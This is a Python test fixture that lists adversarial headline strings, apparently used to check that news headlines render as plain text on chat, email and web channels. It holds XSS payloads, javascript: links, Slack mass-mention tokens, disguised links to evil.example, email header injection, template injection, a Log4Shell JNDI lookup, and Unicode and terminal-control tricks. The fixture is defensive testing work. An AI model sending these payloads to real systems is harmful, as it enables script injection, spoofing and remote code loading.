"""Headlines that want to be more than text. Each must stay text on every channel."""

HOSTILE = (
    "<!channel> breaking", "<!here>", "<!everyone>", "<!subteam^S123|desk>", "<@U1>", "<#C0DESK>", "<@&99>", "<@!42>",
    "@everyone", "@here", "@channel", "@all now", "!channel|all>", "<!date^1^{date}|now>", "&lt;!channel&gt;", "&amp;lt;!here&amp;gt;",
    "<https://evil.example|Reuters>", "<mailto:a@b|x>", "<javascript:alert(1)|click>", "[RAND](javascript:alert(1))",
    "[Reuters](https://evil.example)", "![x](https://evil.example/x.png)", "<https://evil.example>", "https://evil.example/now",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "'><iframe src=//evil.example>",
    '<a href="javascript:alert(1)">x</a>', "</td></tr></table><h1>owned</h1>", "</title><script>", "<style>*{display:none}</style>",
    "<!-- ", "-->", "]]>", "&#60;script&#62;", "title\r\nBcc: victim@example.org", "title\nX-Evil: yes", "title\rSubject: other",
    "a\u2028b\u2029c", "a\x85b", "\x00nul", "\x1b[2Jcleared", "\x9b31mred", "\u202egnp.exe", "\u2066isolated\u2069", "\u200bzero\u200cwidth\u200d",
    "\ufefffirst", "so\xadft", "\U000e0041\U000e0042tags", "lone \ud800 surrogate", "\udfff", "Z\u0351\u0352\u0353\u0354\u0355\u0356algo" + "\u0351" * 60,
    "*bold* _it_ ~gone~ `code`", "```block```", "> quoted", "{{ 7*7 }}", "{% for x in y %}", "{{ self.__class__ }}", "${jndi:ldap://evil.example}",
    "%0d%0aBcc: victim@example.org", "=?utf-8?q?=0ABcc:_x?=", "\r*\n", "<" * 300, "&" * 300, "*" * 300, "/etc/passwd", "\\\\evil\\share", "",
    " ", "兩岸" * 200, "Ω" * 5000,
)  # fmt: skip
